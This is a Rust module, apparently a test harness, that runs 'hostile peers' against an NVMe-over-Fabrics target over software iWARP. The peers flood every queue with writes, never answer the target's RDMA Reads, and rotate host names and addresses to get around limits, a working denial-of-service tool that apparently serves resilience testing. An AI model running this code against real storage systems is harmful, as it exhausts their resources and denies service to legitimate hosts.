//! Hostile peers over software iWARP: they fill their queues with writes, and never
//! respond to the RDMA Reads that fetch the data.
//!
//! They build their frames without the initiator, which would respond.

use std::io::{self, ErrorKind, Read as _, Write as _};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::os::fd::AsFd as _;
use std::sync::atomic::{AtomicU32, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use nix::poll::{PollFd, PollFlags, PollTimeout, poll};
use nvmeof_initiator::wire::cm::Request;
use nvmeof_initiator::wire::fabrics::{Connect, ConnectData, PropertyAccess};
use nvmeof_initiator::wire::nvm::Io;
use nvmeof_initiator::wire::opcode::io as opcode;
use nvmeof_initiator::wire::registers::{Cc, Property, PropertyValue};
use nvmeof_initiator::wire::{Cqe, Nqn, Sgl, Sqe};
use socket2::{Domain, Socket, Type};
use zerocopy::IntoBytes as _;

/// Hostile peers of one target.
#[derive(Clone, Debug)]
pub struct Hostile {
    /// Where the target listens.
    pub addr: SocketAddr,
    /// Name of its subsystem.
    pub subnqn: Nqn,
    /// Number of peers.
    pub peers: u16,
    /// Bytes of each write.
    pub bytes: u32,
    /// Whether all have the address 127.0.0.1; if not, each has its own.
    pub same_address: bool,
}

/// I/O queues of each peer at most, and entries of each: the default limits.
const QUEUES: u16 = 16;
const ENTRIES: u16 = 256;
/// Entries of an admin queue.
const ADMIN_ENTRIES: u16 = 32;
/// Time-out for responses of the target while a peer connects.
const TIMEOUT: Duration = Duration::from_secs(5);
/// A peer that is refused tries again after this.
const PAUSE: Duration = Duration::from_millis(10);
/// Time-out for the first attack of all peers.
const ARRIVAL: Duration = Duration::from_secs(3);

/// Attacks until the process is killed. Calls `attacking` once each peer has sent
/// its first writes, or was refused.
pub fn attack(hostile: &Hostile, attacking: impl FnOnce(u32)) {
    let started = AtomicU32::new(0);
    thread::scope(|scope| {
        for number in 0..hostile.peers {
            let started = &started;
            scope.spawn(move || Peer::new(hostile, number).attack_forever(started));
        }
        let start = Instant::now();
        let all = u32::from(hostile.peers);
        while started.load(Ordering::Relaxed) < all && start.elapsed() < ARRIVAL {
            thread::sleep(Duration::from_millis(5));
        }
        attacking(started.load(Ordering::Relaxed));
    });
}

/// One peer. It has another host name each time it connects.
struct Peer<'a> {
    hostile: &'a Hostile,
    number: u16,
    names: u32,
}

impl<'a> Peer<'a> {
    fn new(hostile: &'a Hostile, number: u16) -> Self {
        Self {
            hostile,
            number,
            names: 0,
        }
    }

    fn attack_forever(mut self, started: &AtomicU32) {
        loop {
            self.names += 1;
            let links = self.connect();
            if self.names == 1 {
                started.fetch_add(1, Ordering::Relaxed);
            }
            match links {
                Ok(mut links) => wait_for_end(&mut links),
                Err(_refused) => thread::sleep(PAUSE),
            }
        }
    }

    /// An admin queue, and I/O queues until one is refused, each full of writes.
    fn connect(&self) -> io::Result<Vec<Link>> {
        let mut admin = Link::open(self.hostile.addr, self.source())?;
        let cntlid = admin.connect_queue(0, ADMIN_ENTRIES, &self.data(0xffff)?)?;
        let enable = PropertyValue::Dword(Cc::ENABLE.0);
        admin.capsule(&PropertyAccess::set(Property::CC, enable).to_bytes())?;
        admin.response()?;
        let mut links = vec![admin];
        for qid in 1..=QUEUES {
            let Ok(link) = self.flooded(qid, cntlid) else {
                break;
            };
            links.push(link);
        }
        match links.len() {
            1 => Err(ErrorKind::ConnectionRefused.into()),
            _ => Ok(links),
        }
    }

    fn flooded(&self, qid: u16, cntlid: u16) -> io::Result<Link> {
        let mut link = Link::open(self.hostile.addr, self.source())?;
        link.connect_queue(qid, ENTRIES, &self.data(cntlid)?)?;
        // A queue whose tail is one before its head is full (NVMe Base 2.0, section
        // 3.3.1.5).
        let mut frames = Vec::new();
        for cid in 0..ENTRIES - 1 {
            frames.extend(link.frame(&write(cid, self.hostile.bytes).to_bytes())?);
        }
        link.stream.write_all(&frames)?;
        Ok(link)
    }

    fn source(&self) -> IpAddr {
        let [high, low] = self.number.to_be_bytes();
        match self.hostile.same_address {
            true => IpAddr::from([127, 0, 0, 1]),
            false => IpAddr::from([127, 1, high, low.saturating_add(1)]),
        }
    }

    fn data(&self, cntlid: u16) -> io::Result<ConnectData> {
        let name = format!(
            "nqn.2026-11.org.example:hostile{}-{}",
            self.number, self.names
        );
        let nqn = Nqn::new(&name).map_err(io::Error::other)?;
        let id = (u128::from(self.names) << 16 | u128::from(self.number)) << 8 | 0xee;
        let id = id.to_le_bytes();
        Ok(ConnectData::new(id, cntlid, &self.hostile.subnqn, &nqn))
    }
}

/// Takes what the target sends, answers none of it, and returns when the target
/// closes a queue.
fn wait_for_end(links: &mut [Link]) {
    let mut room = [0; 16 << 10];
    loop {
        let mut fds: Vec<PollFd<'_>> = links
            .iter()
            .map(|link| PollFd::new(link.stream.as_fd(), PollFlags::POLLIN))
            .collect();
        if poll(&mut fds, PollTimeout::NONE).is_err() {
            return;
        }
        let ready: Vec<bool> = fds.iter().map(|fd| fd.any() == Some(true)).collect();
        let ready = links.iter_mut().zip(ready).filter(|(_, ready)| *ready);
        for (link, _) in ready {
            match link.stream.read(&mut room) {
                Ok(0) | Err(_) => return,
                Ok(_) => {}
            }
        }
    }
}

/// A write whose data are behind a key that the peer never exposed.
fn write(cid: u16, bytes: u32) -> Sqe {
    let mut sqe = Io::new(1, 0, bytes / BLOCK).to_sqe(opcode::WRITE);
    sqe.cid = cid.into();
    sqe.dptr = Sgl::keyed(0x1000, bytes, 7).to_descriptor();
    sqe
}

/// Bytes of a block of the target's null device.
const BLOCK: u32 = 512;

/// One connection.
struct Link {
    stream: TcpStream,
    /// Messages sent on the queue of Sends.
    sent: u32,
}

impl Link {
    fn open(target: SocketAddr, source: IpAddr) -> io::Result<Self> {
        let socket = Socket::new(Domain::for_address(target), Type::STREAM, None)?;
        socket.bind(&SocketAddr::new(source, 0).into())?;
        socket.connect_timeout(&target.into(), TIMEOUT)?;
        let stream = TcpStream::from(socket);
        stream.set_read_timeout(Some(TIMEOUT))?;
        stream.set_write_timeout(Some(TIMEOUT))?;
        stream.set_nodelay(true)?;
        Ok(Self { stream, sent: 0 })
    }

    /// Connects queue `qid`; returns the controller's number.
    fn connect_queue(&mut self, qid: u16, entries: u16, data: &ConnectData) -> io::Result<u16> {
        let private = Request::new(qid, entries);
        let private = private.as_bytes();
        // MPA revision 2 without CRC (RFC 6581, section 5.1); IRD and ORD are 16.
        let len = u16::try_from(private.len() + 4).map_err(io::Error::other)?;
        let mut request = b"MPA ID Req Frame\x10\x02".to_vec();
        request.extend(len.to_be_bytes());
        request.extend([0, 16, 0, 16]);
        request.extend(private);
        self.stream.write_all(&request)?;
        let mut reply = [0; 20];
        self.stream.read_exact(&mut reply)?;
        let [.., flags, _, high, low] = reply;
        self.take(u16::from_be_bytes([high, low]).into())?;
        if flags & 0x20 != 0 {
            return Err(ErrorKind::ConnectionRefused.into());
        }
        let mut sqe = Connect::new(qid, entries, 0).to_sqe();
        let len = u32::try_from(data.as_bytes().len()).map_err(io::Error::other)?;
        sqe.dptr = Sgl::InCapsule { offset: 0, len }.to_descriptor();
        self.capsule(&[&sqe.to_bytes()[..], data.as_bytes()].concat())?;
        let answer = self.response()?;
        if !answer.status().is_success() {
            return Err(ErrorKind::ConnectionRefused.into());
        }
        let [low, high, ..] = answer.result.get().to_le_bytes();
        Ok(u16::from_le_bytes([low, high]))
    }

    fn capsule(&mut self, capsule: &[u8]) -> io::Result<()> {
        let frame = self.frame(capsule)?;
        self.stream.write_all(&frame)
    }

    /// A capsule as a Send message of one segment (RFC 5041, section 4.3).
    fn frame(&mut self, capsule: &[u8]) -> io::Result<Vec<u8>> {
        self.sent += 1;
        let len = u16::try_from(18 + capsule.len()).map_err(io::Error::other)?;
        let mut frame = len.to_be_bytes().to_vec();
        frame.extend([0x41, 0x43, 0, 0, 0, 0, 0, 0, 0, 0]);
        frame.extend(self.sent.to_be_bytes());
        frame.extend([0; 4]);
        frame.extend(capsule);
        frame.resize(frame.len().next_multiple_of(4) + 4, 0);
        Ok(frame)
    }

    /// The next response capsule, behind what else the target sends.
    fn response(&mut self) -> io::Result<Cqe> {
        let mut head = [0; 2];
        self.stream.read_exact(&mut head)?;
        let len = usize::from(u16::from_be_bytes(head));
        let body = self.take((2 + len).next_multiple_of(4) - 2 + 4)?;
        let capsule = body.get(18..).unwrap_or_default();
        Cqe::from_capsule(capsule.get(..16).unwrap_or_default())
            .ok_or_else(|| ErrorKind::InvalidData.into())
    }

    fn take(&mut self, len: usize) -> io::Result<Vec<u8>> {
        let mut bytes = vec![0; len];
        self.stream.read_exact(&mut bytes)?;
        Ok(bytes)
    }
}
